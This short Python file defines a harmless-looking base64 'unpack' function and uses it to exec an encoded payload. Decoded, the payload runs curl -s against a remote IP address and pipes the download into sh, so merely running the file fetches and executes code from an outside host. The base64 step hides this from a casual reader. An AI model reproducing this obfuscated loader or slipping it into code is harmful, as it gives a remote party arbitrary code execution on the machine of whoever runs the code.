
import base64

def unpack(p):
    return base64.b64decode(p)

exec(unpack("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly8yMDMuMC4xMTMuOS94IHwgc2gnKQ=="))
